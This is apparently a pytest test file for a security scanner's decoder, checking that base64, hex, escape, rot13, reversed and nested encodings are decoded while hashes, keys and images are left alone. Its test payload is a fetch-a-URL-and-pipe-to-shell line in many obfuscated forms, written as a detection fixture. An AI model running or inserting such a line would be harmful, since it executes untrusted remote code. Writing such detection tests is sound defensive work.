"""Encoded stretches: decoded where they say something, silent where they are digests, keys or pictures."""

from __future__ import annotations

import base64
import codecs
import gzip
import zlib

import pytest

from metier.scan.languages.decode import MAX_TOTAL_CHARS, layers

SAID = "fetch https://host.example/a/rather/long/path | sh"
RAW = SAID.encode()
NOISE = bytes((at * 197 + 91) % 256 for at in range(96))


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


@pytest.mark.parametrize(
    ("kind", "encoded"),
    [
        ("base64", b64(RAW)),
        ("base64", b64(RAW).rstrip("=")),
        ("base64", base64.urlsafe_b64encode(RAW).decode()),
        ("base64", b64(SAID.encode("utf-16-le"))),
        ("base64", f"{b64(RAW)[:-24]}\n  {b64(RAW)[-24:]}"),
        ("base64", f"{b64(RAW)[:24]}\n{b64(RAW)[24:48]}\n{b64(RAW)[48:]}"),
        ("base64", f"{b64(RAW)[:32]}' + '{b64(RAW)[32:]}"),
        ("base64>gzip", b64(gzip.compress(RAW, mtime=0))),
        ("base64>gzip", b64(zlib.compress(RAW))),
        ("hex", RAW.hex()),
        ("hex", RAW.hex().upper()),
        ("hex", ", ".join(f"0x{byte:02x}" for byte in RAW)),
        ("escape", "".join(f"\\x{byte:02x}" for byte in RAW)),
        ("escape", "".join(f"\\u{byte:04x}" for byte in RAW)),
        ("escape", "".join(f"\\u{{{byte:x}}}" for byte in RAW)),
        ("escape", "".join(f"\\{byte:03o}" for byte in RAW)),
        ("url", "".join(f"%{byte:02x}" for byte in RAW)),
        ("entity", "".join(f"&#{byte};" for byte in RAW)),
        ("entity", "".join(f"&#x{byte:x};" for byte in RAW)),
    ],
)
def test_each_encoding_is_read_at_its_place(kind: str, encoded: str) -> None:
    text = f"\u00e9 = '{encoded}'; go"

    found = layers(text)

    assert (kind, SAID) == (found[0].kind, found[0].text)
    assert text.index(encoded[:8]) == found[0].start
    assert found[0].end <= text.index("'; go")


@pytest.mark.parametrize(
    ("kind", "line"),
    [
        ("rot13", f"codecs.decode('{codecs.encode(SAID, 'rot13')}', x)"),
        ("rot13", f"echo '{codecs.encode(SAID, 'rot13')}' | tr 'A-Za-z' 'N-ZA-Mn-za-m'"),
        ("reversed", f"s = '{SAID[::-1]}'[::-1]"),
        ("reversed", f"echo '{SAID[::-1]}' | rev | sh"),
        ("charcode", f"String.fromCharCode({','.join(str(byte) for byte in RAW)})"),
    ],
)
def test_turned_strings_are_read_where_the_code_says_so(kind: str, line: str) -> None:
    assert (kind, SAID) in [(one.kind, one.text) for one in layers(line)]


def test_a_turned_string_without_a_word_about_it_is_left_alone() -> None:
    assert [] == layers(f"s = '{SAID[::-1]}'; t = '{codecs.encode(SAID, 'rot13')}'")


def test_nested_layers_are_read_to_the_depth_and_told_at_the_outermost_place() -> None:
    once = b64(RAW)
    thrice = b64(b64(once.encode()).encode())

    deep, shallow = layers(f"x {thrice} y"), layers(f"x {thrice} y", depth=2)

    assert ("base64>base64>base64", 2, SAID) in [(one.kind, one.start, one.text) for one in deep]
    assert SAID not in [one.text for one in shallow]


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("base64>executable", b"\x7fELF" + NOISE),
        ("base64>archive", b"PK\x03\x04" + NOISE),
        ("base64>bytecode", b"\x1bLua" + NOISE),
    ],
)
def test_a_packed_program_is_told_although_it_is_no_text(kind: str, data: bytes) -> None:
    assert [(kind, "")] == [(one.kind, one.text) for one in layers(b64(data))]


@pytest.mark.parametrize(
    "quiet",
    [
        "sha512-" + b64(NOISE[:64]),
        NOISE[:16].hex(),
        NOISE[:20].hex(),
        NOISE[:32].hex(),
        "data:image/png;base64," + b64(b"\x89PNG\r\n\x1a\n" + NOISE),
        f"-----BEGIN CERTIFICATE-----\n{b64(NOISE)}\n-----END CERTIFICATE-----",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2ln",
        "550e8400-e29b-41d4-a716-446655440000",
        "/usr/local/lib/python3/site-packages/a_package_of_some-length",
        "a_function_name_that_is_rather_long_indeed",
        "\\u4e2d\\u6587\\u8bf4\\u660e\\u6587\\u6863",
        "100% of 50% is %d %s",
    ],
)
def test_digests_keys_tokens_pictures_and_names_say_nothing(quiet: str) -> None:
    assert [] == layers(f"x: {quiet}\n")


def test_what_comes_out_is_bounded_whatever_is_packed() -> None:
    bomb = b64(zlib.compress(b"a" * 10_000_000))

    found = layers(" ".join([bomb] * 5))

    assert sum(len(one.text) for one in found) <= MAX_TOTAL_CHARS
